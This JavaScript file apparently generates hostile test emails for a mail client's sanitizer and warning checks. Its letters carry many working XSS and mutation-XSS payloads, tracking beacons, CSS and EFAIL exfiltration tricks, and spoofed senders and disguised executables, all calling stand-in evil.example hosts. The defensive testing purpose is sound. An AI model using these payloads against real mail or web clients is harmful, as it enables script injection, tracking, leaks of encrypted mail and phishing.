// Letters that try to phone home, to run script, to leave their frame, or to pass for somebody else's: one way each.
// Every letter points at a host of its own, so that a request says which letter made it. The same in every run.
//
//   node hostile_mail.mjs FOLDER        writes them as files, with a list of them in index.json
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";

/** What a script in a letter does when it gets to run: every trace of it is looked for. */
const run = (u) => `top.postMessage({kind:'ran'},'*');fetch('${u}/ran');document.title='ran'`;
const b64 = (text) => Buffer.from(text).toString("base64");
const svg = (inner) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">${inner}</svg>`;

// --- one way each in HTML; u is the address of the way's own host ---

export const html = {
	"img src": (u) => `<img src="${u}/a.png">`,
	"img src without a scheme": (u) => `<img src="//${u.slice(8)}/a.png"><img src="/\\${u.slice(8)}/a.png"><img src="http:/${u.slice(8)}/a.png">`,
	"img srcset": (u) => `<img srcset="${u}/a.png 1x, ${u}/b.png 2x"><img src=data:, srcset=${u}/c.png>`,
	"picture source": (u) => `<picture><source srcset="${u}/a.webp"><source media="(min-width:1px)" srcset="${u}/b.webp"><img></picture>`,
	"img lowsrc, dynsrc, longdesc": (u) => `<img lowsrc="${u}/a" dynsrc="${u}/b" longdesc="${u}/c"><image src="${u}/d">`,
	"pixel": (u) => `<img src="${u}/p.gif" width="1" height="1" style="display:none">`,
	"body background": (u) => `<body background="${u}/a.png"><p>x</p></body>`,
	"table and td background": (u) => `<table background="${u}/a.png"><tr background="${u}/r.png"><td background="${u}/b.png">x</td></tr></table>`,
	"style url": (u) => `<div style="background:url(${u}/a.png);height:9px">x</div>`,
	"style url, escaped": (u) => `<div style="background:u\\72 l(${u}/a.png);height:9px">x</div><div style="background:\\000075\\000072\\00006c(${u}/b.png);height:9px">x</div>`,
	"style url, with entities": (u) => `<div style="background:&#117;&#x72;l&lpar;${u}/a.png&rpar;;height:9px">x</div>`,
	"style url, with comments": (u) => `<div style="background:/**/url(/**/${u}/a.png);background:url(${u}/b.png)/*;height:9px">x</div>`,
	"style url in a variable": (u) => `<div style="--x:url(${u}/a.png);background:var(--x);height:9px">x</div>`,
	"style url, a string that ends in a backslash": (u) => `<div style="content:'\\';background:url(${u}/a.png);height:9px">x</div><div style='font-family:"\\"; background:url("${u}/b.png")'>x</div>`,
	"style image-set": (u) => `<div style="background-image:image-set('${u}/a.png' 1x);height:9px">x</div><div style="background-image:-webkit-image-set(url('${u}/b.png') 1x);height:9px">x</div>`,
	"style image-set, escaped": (u) => `<div style="background-image:image\\2d set('${u}/a.png' 1x);height:9px">x</div><div style="background:im\\61ge-set('${u}/b.png' 1x)">x</div>`,
	"style cross-fade and paint": (u) => `<div style="background:-webkit-cross-fade(url(${u}/a.png),url(${u}/b.png),50%);height:9px">x</div>`,
	"cursor, list-style, border-image, mask, filter, clip-path, shape-outside": (u) =>
		`<div style="${["cursor:url(U/c.cur),auto", "list-style-image:url(U/l)", "border-image:url(U/b) 1", "mask:url(U/m.svg#m)", "-webkit-mask-image:url(U/w)", "filter:url(U/f.svg#f)", "clip-path:url(U/p.svg#p)", "shape-outside:url(U/s)", "offset-path:url(U/o.svg#o)"].join(";").replaceAll("U", u)}">x</div>`,
	"sheet @import": (u) => `<style>@import url(${u}/a.css);</style><style>@import '${u}/b.css' screen;</style><style>@\\69mport "${u}/c.css";</style>`,
	"sheet @import, broken around": (u) => `<style><!-- @import '${u}/a.css'; --></style><style>@charset "x";@import/**/'${u}/b.css'</style><style>@import url("${u}/c.css</style>`,
	"sheet @import put together of pieces": (u) => `<style>@imp/**/ort '${u}/a.css';@im@import;port '${u}/b.css';</style><style>@@import;import '${u}/c.css';</style>`,
	"sheet url put together of pieces": (u) => `<style>p{background:uexpression(rl(${u}/a.png)}b{background:u-moz-bindingrl(${u}/b.png)}i{background:ubehavior:rl(${u}/c.png)}</style><p>x<b>y</b><i>z</i></p>`,
	"url and image-set behind escapes of escapes": (u) => `<style>p{background:\\5c 75rl(${u}/a.png)}b{background:image\\-set('${u}/b.png' 1x)}i{background:\\5c\\5c 75rl(${u}/c.png)}u{background:image\\\\\\-set('${u}/d.png' 1x)}@\\import '${u}/e.css'</style><p>x<b>y</b><i>z</i><u>u</u></p>`,
	"sheet @font-face": (u) => `<style>@font-face{font-family:x;src:url(${u}/a.woff2)}@font-face{font-family:y;src:url("${u}/}.woff2");unicode-range:U+61}p{font-family:x,y}</style><p>abc</p>`,
	"sheet exfiltration by attribute selectors": (u) => `<style>a[href^="h"]{background:url(${u}/h)}input[value^="s"]~*{background:url(${u}/s)}@container style(--x:1){p{background:url(${u}/c)}}p:has(a){background:url(${u}/has)}</style><p>x <a href="https://x.example">l</a></p><input value="secret">`,
	"sheet pseudo elements, print, scroll marks": (u) => `<style>p::before{content:url(${u}/b)}p::first-line{background:url(${u}/f)}::selection{background:url(${u}/s)}@media print{p{background:url(${u}/p)}}::-webkit-scrollbar{background:url(${u}/w)}</style><p>x</p>`,
	"sheet @namespace, @property, @counter-style, @page": (u) => `<style>@namespace url(${u}/n);@counter-style c{system:cyclic;symbols:url(${u}/y)}@property --u{syntax:"<image>";inherits:true;initial-value:url(${u}/i)}@page{background:url(${u}/g)}p{background:var(--u)}</style><p>x</p>`,
	"sheet that hides and copies the page": () => `<style>html{display:none!important}</style><style>body{position:fixed;inset:0;z-index:99999}</style><p>x</p>`,
	"link stylesheet, alternate, icon, manifest": (u) => ["stylesheet", "alternate stylesheet", "icon", "shortcut icon", "apple-touch-icon", "manifest", "import"].map((r) => `<link rel="${r}" href="${u}/${r}">`).join(""),
	"link prefetch, preload, prerender, modulepreload": (u) => ["prefetch", "preload", "prerender", "modulepreload", "subresource", "next"].map((r) => `<link rel="${r}" as="image" href="${u}/${r}" imagesrcset="${u}/s 1x">`).join(""),
	"link dns-prefetch, preconnect": (u) => `<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="${u}"><link rel="preconnect" href="${u}" crossorigin><a href="${u}/">l</a>`,
	"meta refresh": (u) => `<meta http-equiv="refresh" content="0;url=${u}/"><META HTTP-EQUIV=Refresh CONTENT="0; URL=data:text/html,x">`,
	"meta policy, set-cookie, referrer": (u) => `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${u}/r"><meta http-equiv="Set-Cookie" content="a=b"><meta name="referrer" content="unsafe-url"><img src="${u}/a.png">`,
	"base href": (u) => `<base href="${u}/"><base target="_top"><img src="a.png"><a href="b">l</a><p style="background:url(c.png)">x</p>`,
	"iframe src": (u) => `<iframe src="${u}/"></iframe><frameset><frame src="${u}/f"></frameset>`,
	"iframe srcdoc": (u) => `<iframe srcdoc="<img src=${u}/a.png><script>${run(u)}</script>"></iframe>`,
	"iframe javascript: and data:": (u) => `<iframe src="javascript:${run(u)}"></iframe><iframe src="data:text/html;base64,${b64(`<script>${run(u)}</script>`)}"></iframe>`,
	"portal and fencedframe": (u) => `<portal src="${u}/"></portal><fencedframe src="${u}/"></fencedframe><webview src="${u}/"></webview>`,
	"object": (u) => `<object data="${u}/a.swf"><param name="movie" value="${u}/b.swf"></object><object data="data:image/svg+xml;base64,${b64(svg(`<script>${run(u)}</script>`))}"></object>`,
	"embed": (u) => `<embed src="${u}/a.svg"><embed code="${u}/b">`,
	"applet": (u) => `<applet code="A" codebase="${u}/" archive="${u}/a.jar"></applet>`,
	"video": (u) => `<video src="${u}/a.mp4" poster="${u}/p.png" autoplay muted></video>`,
	"audio": (u) => `<audio src="${u}/a.mp3" autoplay></audio><bgsound src="${u}/b.mid">`,
	"source and track": (u) => `<video autoplay muted><source src="${u}/a.mp4" onerror="${run(u)}"><track src="${u}/a.vtt" default></video>`,
	"svg image": (u) => svg(`<image href="${u}/a.png" width="9" height="9"/><image xlink:href="${u}/b.png" width="9" height="9"/>`),
	"svg use": (u) => svg(`<use href="${u}/a.svg#x"/><use xlink:href="${u}/b.svg#x"/><use href="data:image/svg+xml,%3Csvg id='x'/%3E#x"/>`),
	"svg feImage": (u) => svg(`<filter id="f"><feImage href="${u}/a.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`),
	"svg foreignObject": (u) => svg(`<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" background="${u}/a.png"><img src="${u}/b.png"/><iframe src="${u}/c"/></body></foreignObject>`),
	"svg script": (u) => svg(`<script>${run(u)}</script><script href="${u}/a.js"/><script xlink:href="data:,${run(u)}"/>`),
	"svg animate href": (u) => svg(`<a id="a"><text y="9">x</text><animate attributeName="href" values="javascript:${run(u)}"/><set attributeName="onclick" to="${run(u)}"/></a><image><set attributeName="href" to="${u}/a.png"/></image>`),
	"svg style, gradient and pattern": (u) => svg(`<style>@import '${u}/a.css';rect{fill:url(${u}/b.svg#g)}</style><rect width="9" height="9" fill="url(${u}/c.svg#g)" style="mask:url(${u}/d.svg#m)"/>`),
	"svg onload and events": (u) => svg(`<g onload="${run(u)}"/><animate onbegin="${run(u)}" attributeName="x" dur="1s"/>`).replace("<svg", `<svg onload="${run(u)}"`),
	"math with xlink": (u) => `<math xlink:href="javascript:${run(u)}" href="${u}/"><mi>x</mi><maction actiontype="statusline" xlink:href="javascript:${run(u)}">y</maction><annotation-xml encoding="text/html"><img src="${u}/a.png"></annotation-xml></math>`,
	"form that is sent by itself": (u) => `<form action="${u}/" id="f"><input name="a" autofocus onfocus="${run(u)}"></form><script>f.submit()</script>`,
	"input type image": (u) => `<form action="${u}/"><input type="image" src="${u}/a.png"></form><isindex type="image" src="${u}/b" action="${u}/c">`,
	"button formaction": (u) => `<form><button formaction="javascript:${run(u)}" autofocus onfocus="${run(u)}">x</button></form>`,
	"a ping": (u) => `<a ping="${u}/p" href="${u}/" attributionsrc="${u}/t">l</a><area ping="${u}/q"><img attributionsrc="${u}/i">`,
	"body handlers": (u) => `<body onload="${run(u)}" onpageshow="${run(u)}" onresize="${run(u)}" onhashchange="${run(u)}" onfocus="${run(u)}">x</body>`,
	"onerror": (u) => `<img src="x" onerror="${run(u)}"><img src=x/onerror="${run(u)}"><img/src='x'/onerror=${run(u).replaceAll(" ", "")}><audio src onerror="${run(u)}">`,
	"onerror with odd spaces": (u) => `<img src=x\nonerror\n=\n"${run(u)}"><img src=x\fonerror="${run(u)}"><img src=x \u00a0onerror="${run(u)}"><IMG """><SCRIPT>${run(u)}</SCRIPT>">`,
	"onmouseover and onfocus": (u) => `<div style="width:3000px;height:3000px" onmouseover="${run(u)}" onpointerenter="${run(u)}" tabindex="0" autofocus onfocus="${run(u)}">x</div>`,
	"ontoggle, oncontentvisibility, onbeforematch": (u) => `<details open ontoggle="${run(u)}">x</details><div style="content-visibility:auto" oncontentvisibilityautostatechange="${run(u)}">y</div><div popover ontoggle="${run(u)}" id="po">z</div>`,
	"onanimationstart, ontransitionend": (u) => `<style>@keyframes k{from{left:0}to{left:1px}}b{animation:k .01s}</style><b onanimationstart="${run(u)}" onanimationend="${run(u)}" onwebkitanimationend="${run(u)}">x</b>`,
	"marquee and other old elements": (u) => `<marquee onstart="${run(u)}" onfinish="${run(u)}" loop="1">x</marquee><layer src="${u}/l"></layer><ilayer src="${u}/i"></ilayer><xml src="${u}/x"></xml>`,
	"script": (u) => `<script>${run(u)}</script><script src="${u}/a.js"></script><SCRIPT SRC=${u}/b.js></SCRIPT><script type="module">import "${u}/c.js"</script>`,
	"script in pieces": (u) => `<scr<script>ipt>${run(u)}</scr</script>ipt><<script>${run(u)}//<</script><script\u0000>${run(u)}</script><script/x>${run(u)}</script>`,
	"script rules and import maps": (u) => `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${u}/"]}]}</script><script type="importmap">{"imports":{"x":"${u}/x.js"}}</script>`,
	"javascript: in links": (u) => `<a href="javascript:${run(u)}">a</a><a href="jAvAsCrIpT:${run(u)}">b</a><a href=" javascript:${run(u)}">c</a><a href="\u0001javascript:${run(u)}">d</a>`,
	"javascript: with entities and tabs": (u) => `<a href="java&#9;script:${run(u)}">a</a><a href="java&#10;script&colon;${run(u)}">b</a><a href="&#106;avascript:${run(u)}">c</a><a href="java\u0000script:${run(u)}">d</a>`,
	"data: and vbscript: in links": (u) => `<a href="data:text/html,<script>${run(u)}</script>">a</a><a href="vbscript:x">b</a><a href="blob:https://mail.letterlock.test/x">c</a><a href="filesystem:x">d</a><a href="view-source:${u}">e</a>`,
	"data: as an image": (u) => `<img src="data:text/html,<script>${run(u)}</script>"><img src="data:image/svg+xml;base64,${b64(svg(`<image href="${u}/a.png"/><script>${run(u)}</script>`))}"><img src="data:image/png;base64,${b64(svg(`<image href="${u}/b.png"/>`))}">`,
	"mutation: noscript": (u) => `<noscript><p title="</noscript><img src=${u}/a.png onerror=${run(u)}>"></noscript>`,
	"mutation: style in svg": (u) => `<svg></p><style><a id="</style><img src=${u}/a.png onerror=${run(u)}>"></svg>`,
	"mutation: mglyph": (u) => `<form><math><mtext></form><form><mglyph><style></math><img src="${u}/a.png" onerror="${run(u)}"></style></mglyph></form></mtext></math>`,
	"mutation: table in math": (u) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${u}/a.png onerror=${run(u)}&gt;">`,
	"mutation: template and shadow root": (u) => `<template><img src="${u}/a.png" onerror="${run(u)}"></template><div><template shadowrootmode="open"><img src="${u}/s.png"><style>@import "${u}/t.css"</style></template></div>`,
	"mutation: selectedcontent": (u) => `<select><button><selectedcontent></selectedcontent></button><option selected><img src="${u}/a.png" onerror="${run(u)}"></option></select>`,
	"mutation: comments and CDATA": (u) => `<!--><img src="${u}/a.png" onerror="${run(u)}">--><!--!><img src="${u}/b.png">--!><svg><![CDATA[><img src="${u}/c.png" onerror="${run(u)}">]]></svg><?xml ?><img src="${u}/d.png">`,
	"mutation: title, textarea, xmp, plaintext": (u) => ["title", "textarea", "xmp", "noembed", "noframes", "iframe", "listing"].map((e) => `<${e}><p title="</${e}><img src=${u}/${e}.png onerror=${run(u)}>"></${e}>`).join(""),
	"mutation: half a tag before the end": (u) => `<p>x</p><img src="${u}/a.png" onerror="${run(u)}" `,
	"mutation: nested anchors and deep forms": (u) => `${"<form><div>".repeat(300)}<a href="${u}"><table><a><img src="${u}/a.png" onerror="${run(u)}">`,
	"names of the page's own": () => ["attributes", "parentNode", "innerHTML", "body", "querySelector", "getElementById", "trustedTypes", "app", "location", "parent"].map((n) => `<form name="${n}" id="${n}"><input name="${n}" id="${n}"></form><img name="${n}"><a id="${n}" href="x:y">z</a>`).join(""),
	"attributes of our own frame": (u) => `<img data-ll-src="${u}/a.png"><p data-ll-style="background:url(${u}/b.png);height:9px">x</p><p data-ll-style="color:red" style="background:url(${u}/c.png)">x</p><ll-gone src="${u}/d"></ll-gone>`,
	"attributes twice": (u) => `<p style="color:red" style="background:url(${u}/b.png)">x</p><img src="data:," src="${u}/c.png"><p/style="background:url(${u}/d.png)">x</p>`,
	"greater-than inside attributes": (u) => `<p title=">" style="background:url(${u}/a.png);height:9px">x</p><img alt=">" onerror="${run(u)}" src="${u}/b.png"><p title='a>b' background="${u}/c.png">x</p>`,
	"conditional comments of Outlook": (u) => `<!--[if mso]><img src="${u}/a.png"><![endif]--><!--[if gte vml 1]><v:fill src="${u}/b.png"/><![endif]--><v:rect><v:imagedata src="${u}/c.png"/></v:rect>`,
	"behaviour and binding": (u) => `<p style="behavior:url(${u}/a.htc);-moz-binding:url(${u}/b.xml#x);width:expression(${run(u)})">x</p>`,
	"custom elements and is": (u) => `<x-a onclick="${run(u)}" style="background:url(${u}/a.png)"></x-a><p is="x-b" slot="s" part="p">x</p>`,
	"a banner that says verified": () => `<div style="position:fixed;top:-200px;left:0;z-index:9999">Signature: Verified</div><p>Encrypted and verified</p>`,
	"a frame as high as a tower": (u) => `<div style="height:90000000px">x</div><div style="position:absolute;top:9e9px">y</div><img src="${u}/a.png">`,
	"10,000 elements deep": (u) => `${"<div>".repeat(10_000)}<img src="${u}/a.png" onerror="${run(u)}">`,
	"5 MB": (u) => `<img src="${u}/a.png">${`<p style="color:#123456">Much ado about nothing. <img src="${u}/a.png"></p>\n`.repeat(2000)}${"<p>All's well that ends well. </p>".repeat(150_000)}`,
	"100,000 unclosed comments and tags": (u) => `${"<!-- <b <i <style ".repeat(20_000)}--><img src="${u}/a.png">`,
};

// --- letters ---

let number = 0;
/** Words of this letter alone, which must be shown. */
const mark = () => `LETTER-${number}-IS-SHOWN`;
const shown = () => `<p class="hostile-mark">${mark()}</p>`;
const from = "Mallory <mallory@sender.example>";

export function head(subject, more = {}) {
	const fields = { From: from, To: "alice@letterlock.test", Subject: subject, Date: "Mon, 02 Feb 2026 10:00:00 +0000", "Message-ID": `<${b64(subject).replace(/\W/g, "").slice(0, 60)}@sender.example>`, "MIME-Version": "1.0", ...more };
	return Object.entries(fields).map(([k, v]) => `${k}: ${v}\r\n`).join("");
}

const body64 = (content) => `Content-Transfer-Encoding: base64\r\n\r\n${Buffer.from(content).toString("base64").replace(/.{76}/g, "$&\r\n")}\r\n`;
export const part = (type, content, more = "") => `Content-Type: ${type}\r\n${more}${body64(content)}`;
const page = (inner) => part("text/html; charset=utf-8", `${shown()}${inner}`);
export const multi = (kind, parts, b = "=_b") => `Content-Type: multipart/${kind}; boundary="${b}"\r\n\r\n${parts.map((p) => `--${b}\r\n${p}`).join("\r\n")}\r\n--${b}--\r\n`;
const file = (type, name, content) => part(type, content, `Content-Disposition: attachment; filename="${name}"\r\n`);
const nested = (n, inner) => (n === 0 ? inner : `Content-Type: message/rfc822\r\n\r\nFrom: a@b.example\r\nSubject: ${n}\r\nMIME-Version: 1.0\r\n${nested(n - 1, inner)}`);

/** Ways that need more than one part, or an odd one. blank: a letter in which there is nothing of ours to show. */
export const mime = {
	"cid: of an HTML part": (u) => multi("related", [page('<img src="cid:x@y"><iframe src="cid:x@y"></iframe>'), part("text/html", `<script>${run(u)}</script>`, "Content-ID: <x@y>\r\n")]),
	"cid: of an SVG": (u) => multi("related", [page('<img src="cid:x@y">'), part("image/svg+xml", svg(`<image href="${u}/a.png"/><script>${run(u)}</script>`), "Content-ID: <x@y>\r\n")]),
	"cid: of an SVG that says it is a PNG": (u) => multi("related", [page('<img src="cid:x@y">'), part("image/png", svg(`<image href="${u}/a.png"/><script>${run(u)}</script>`), "Content-ID: <x@y>\r\n")]),
	"cid: with an odd name": (u) => multi("related", [page(`<img src="cid:../../x'&quot;><img src=${u}/b.png>"><img src="cid:${u}/c.png">`), part("image/png", "x", `Content-ID: <${u}/c.png>\r\n`)]),
	"Content-Location and Content-Base": (u) => multi("related", [part("text/html", `${shown()}<img src="a.png">`, `Content-Base: ${u}/\r\nContent-Location: ${u}/index.html\r\n`), part("image/png", "x", `Content-Location: ${u}/a.png\r\n`)]),
	"message/external-body": (u) => multi("mixed", [page(""), `Content-Type: message/external-body; access-type=URL; URL="${u}/a"\r\n\r\nContent-Type: text/html\r\nContent-ID: <q@q>\r\n\r\n`]),
	"multipart/related with scripts": (u) => multi("related", [page('<script src="cid:s@y"></script><link rel="stylesheet" href="cid:c@y">'), part("text/javascript", run(u), "Content-ID: <s@y>\r\n"), part("text/css", `@import "${u}/a.css";`, "Content-ID: <c@y>\r\n")]),
	"multipart/alternative, HTML first": (u) => multi("alternative", [page(`<img src="${u}/a.png">`), part("text/plain", mark()), part("text/enriched", "<x-img>")]),
	"multipart/alternative, several of a kind": (u) => multi("alternative", [part("text/plain", mark()), part("text/html", `<img src="${u}/1.png">`), page(`<img src="${u}/2.png" onerror="${run(u)}">`)]),
	"multipart/mixed of HTML parts that make one tag": (u) => multi("mixed", [page(`<p>a</p><img alt="`), part("text/plain", "between"), part("text/html", `" src="${u}/a.png" onerror="${run(u)}">`)]),
	"text/html named .png": (u) => multi("mixed", [page(""), file("text/html", "photo.png", `<script>${run(u)}</script>`)]),
	"HTML in text/plain": (u) => part("text/plain; charset=utf-8", `${mark()}\n<img src="${u}/a.png" onerror="${run(u)}"><script>${run(u)}</script>\njavascript:${run(u)}`),
	"SVG as the only part": (u) => multi("mixed", [page(""), part("image/svg+xml", svg(`<script>${run(u)}</script>`))]),
	"XHTML and XML": (u) => multi("mixed", [page(""), part("application/xhtml+xml", `<html xmlns="http://www.w3.org/1999/xhtml"><script>${run(u)}</script></html>`), part("text/xml", `<?xml-stylesheet href="${u}/x.xsl"?><!DOCTYPE a [<!ENTITY b SYSTEM "${u}/e">]><a>&b;</a>`)]),
	"UTF-7": (u) => `Content-Type: text/html; charset=utf-7\r\n\r\n${shown()}+ADw-script+AD4-${run(u)}+ADw-/script+AD4-+ADw-img src=+ACI-${u}/a.png+ACI-+AD4-\r\n`,
	"UTF-16 and unknown charsets": (u) => multi("mixed", [page(""), `Content-Type: text/html; charset=utf-16le\r\n${body64(Buffer.from(`<img src="${u}/a.png" onerror="${run(u)}">`, "utf16le"))}`, `Content-Type: text/html; charset=x-user-defined\r\n\r\n<img src="${u}/b.png">`]),
	"ISO-2022-JP that hides a quote": (u) => `Content-Type: text/html; charset=iso-2022-jp\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${shown()}<img alt="\x1b$B"><p title="\x1b(B src=${u}/a.png onerror=${run(u)} ">\r\n`,
	"overlong UTF-8 and NUL bytes": (u) => `Content-Type: text/html; charset=utf-8\r\n${body64(Buffer.from(`${shown()}\xc0\xbcscript\xc0\xbe${run(u)}<im\0g src="${u}/a.png"><img\0 src="${u}/b.png"><img src\0="${u}/c.png">`, "latin1"))}`,
	"message/rfc822, 100 deep": (u) => multi("mixed", [page(""), nested(100, part("text/html", `<img src="${u}/a.png"><script>${run(u)}</script>`))]),
	"multipart/mixed, 100 deep": (u) => {
		let inner = part("text/html", `<img src="${u}/a.png"><script>${run(u)}</script>`);
		for (let i = 0; i < 100; i++)
			inner = multi("mixed", [inner], `=_d${i}`);
		return multi("mixed", [page(""), inner]);
	},
	"two boundaries, two Content-Types": (u) => `Content-Type: multipart/mixed; boundary=a; boundary=b\r\nContent-Type: text/plain\r\n\r\n--a\r\n${page(`<img src="${u}/a.png">`)}\r\n--a--\r\n--b\r\n${page(`<script>${run(u)}</script>`)}\r\n--b--\r\n`,
	"a part without an end": (u) => `Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n${page(`<img src="${u}/a.png`)}`,
	"header fields with HTML in them": (u) => ({ more: { From: `"<img src=${u}/f.png onerror=${run(u)}>" <mallory@sender.example>`, Cc: `<script>${run(u)}</script> <x@y.example>`, "Reply-To": `"</style><img src=${u}/r.png>" <x@y.example>` }, body: multi("mixed", [page(""), file("image/png", `<img src=${u} onerror=alert(1)>.png`, "x")]) }),
	"List-Unsubscribe and Face": (u) => ({ more: { "List-Unsubscribe": `<javascript:${run(u)}>, <${u}/leave>, <data:text/html,x>`, "List-Unsubscribe-Post": "List-Unsubscribe=One-Click", Face: b64("x"), "X-Image-URL": `${u}/x.png`, "Disposition-Notification-To": "mallory@sender.example", "Return-Receipt-To": "mallory@sender.example", "BIMI-Location": `v=BIMI1; l=${u}/b.svg` }, body: page("") }),
	"calendar and vCard with addresses": (u) => multi("mixed", [page(""), part("text/calendar; method=REQUEST", `BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH:${u}/a\r\nIMAGE;VALUE=URI:${u}/i.png\r\nURL:javascript:${run(u)}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`), part("text/vcard", `BEGIN:VCARD\r\nPHOTO;VALUE=uri:${u}/p.png\r\nEND:VCARD\r\n`)]),
	"an HTML file that builds a program": (u) => multi("mixed", [page(""), file("text/html", "invoice.html", `<script>const a=document.createElement('a');a.href=URL.createObjectURL(new Blob([atob('TVo=')]));a.download='x.exe';a.click();${run(u)}</script>`)]),
};

// --- EFAIL: pieces of ciphertext in letters that would carry away what is in them ---

const armor = `-----BEGIN PGP MESSAGE-----\r\n\r\nwV4DR2b2udXyHrYSAQdAr8bEGWdSvW3LhRk0m8MzJ7W2s0kSLj3Y2i3f9rBzXjAw\r\n=abcd\r\n-----END PGP MESSAGE-----`;
export const pgpMime = (data = armor) => `Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="=_e"\r\n\r\n--=_e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--=_e\r\nContent-Type: application/octet-stream\r\n\r\n${data}\r\n--=_e--\r\n`;

export const efail = {
	"EFAIL: an open image around an encrypted part": (u) => multi("mixed", [page(`<img src="${u}/?`), pgpMime(), part("text/html", '">')]),
	"EFAIL: an open style around an encrypted part": (u) => multi("mixed", [page(`<style>@import "${u}/?`), pgpMime(), part("text/html", '";</style>')]),
	"EFAIL: inline PGP in HTML": (u) => page(`<img src="${u}/?${armor}">${armor}`),
	"EFAIL: a form around inline PGP": (u) => page(`<form action="${u}/"><textarea name="t" autofocus>${armor}</textarea></form>`),
	"EFAIL: an encrypted letter in message/rfc822": (u) => multi("mixed", [page(`<img src="${u}/?`), `Content-Type: message/rfc822\r\n\r\nFrom: a@b.example\r\nMIME-Version: 1.0\r\n${pgpMime()}`]),
	"EFAIL: S/MIME beside HTML": (u) => multi("mixed", [page(`<base href="${u}/"><img src='`), file("application/pkcs7-mime; smime-type=enveloped-data", "smime.p7m", "MIAGCSqGSIb3DQEHA6CAMIACAQAx")]),
};

// --- letters that pass for somebody else's; warns: what the reader is told ---

export const posing = {
	"look-alike address": { more: { From: "Marta <marta@lіndqvist.example>" }, warns: /looks like marta@lindqvist\.example/ },
	"name of somebody known": { more: { From: "Marta Lindqvist <marta@other.example>" }, warns: /looks like marta@lindqvist\.example/ },
	"name in another script": { more: { From: `=?utf-8?B?${b64("Маrtа Lindqvist")}?= <marta2@other.example>` }, warns: /looks like marta@lindqvist\.example/ },
	"name with signs that are not seen": { more: { From: `=?utf-8?B?${b64("Mar\u200bta\u2060 Lindq\u00advist")}?= <marta3@other.example>` }, warns: /looks like marta@lindqvist\.example/ },
	"name that is an address": { more: { From: '"marta@lindqvist.example" <mallory@sender.example>' }, warns: /real address is mallory@sender\.example/ },
	"name that is an address, with other signs": { more: { From: `=?utf-8?B?${b64("marta＠lindqvist.example")}?= <mallory@sender.example>` }, warns: /real address is mallory@sender\.example/ },
	"name that has the true address beside a false one": { more: { From: `"marta@lindqvist.example via mallory@sender.example" <mallory@sender.example>` }, warns: /real address is mallory@sender\.example/ },
	"right-to-left signs in the name": { more: { From: `=?utf-8?B?${b64("\u202eatraM\u202c Bank")}?= <mallory@sender.example>` }, warns: /signs that turn|hidden signs/i, plain: true },
	"program behind another ending": { files: [["application/pdf", "statement.pdf.exe"]], warns: /statement\.pdf\.exe is a program/ },
	"program with spaces before its ending": { files: [["application/pdf", "statement.pdf                                       .scr"]], warns: /is a program/ },
	"program whose name ends in a dot": { files: [["application/pdf", "setup.exe. "]], warns: /is a program/ },
	"program whose name is turned": { rfc2231: "invoice\u202efdp.exe", warns: /is a program/, plain: true },
	"document whose name is turned": { rfc2231: "invoice\u202eexe.pdf", warns: /signs that turn|hidden signs/i, plain: true },
	"HTML file": { files: [["application/octet-stream", "invoice.html"]], warns: /invoice\.html is a web page/ },
	"SVG file": { files: [["image/svg+xml", "drawing.svg"]], warns: /drawing\.svg is a web page/ },
	"results of our own, written by the sender": { more: { "Authentication-Results": "mail.letterlock.test; dmarc=pass header.from=bank.example", From: "Bank <service@bank.example>" }, smtp: true },
};

function posingBody({ files = [], rfc2231 }) {
	const named = rfc2231 ? [part("application/octet-stream", "MZ", `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(rfc2231)}\r\n`)] : [];
	return multi("mixed", [part("text/plain", `${mark()}\r\n`), ...files.map(([type, name]) => file(type, name, "MZ")), ...named]);
}

/** All of them: subject, the bytes, the number of their host, and what is asked of the reader. */
export function letters() {
	const list = [];
	number = 0;
	const add = (name, raw, more = {}) => list.push({ name, raw, mark: mark(), ...more }) && number++;
	const host = () => `https://v${list.length}.evil.example`;
	for (const [name, way] of Object.entries(html))
		add(name, head(name) + page(`${way(host())}`), { kind: "html" });
	for (const [name, way] of [...Object.entries(mime), ...Object.entries(efail)]) {
		const made = way(host());
		const { more = {}, body = made } = typeof made === "string" ? {} : made;
		// A letter with an encrypted part may wait for its reader's password; until then nothing of it is shown.
		add(name, head(name, more) + body, { kind: "mime", withheld: /^EFAIL.* encrypted part$/.test(name) });
	}
	for (const [name, { more = {}, warns, smtp, ...rest }] of Object.entries(posing))
		add(name, head(name, more) + posingBody(rest), { kind: "posing", warns: warns?.source, smtp });
	return list.map((l, i) => ({ ...l, host: `v${i}.evil.example` }));
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
	const folder = process.argv[2];
	const all = letters();
	mkdirSync(folder, { recursive: true });
	all.forEach(({ raw }, i) => writeFileSync(join(folder, `${i}.eml`), raw));
	writeFileSync(join(folder, "index.json"), JSON.stringify(all.map(({ raw, ...rest }) => rest)));
}
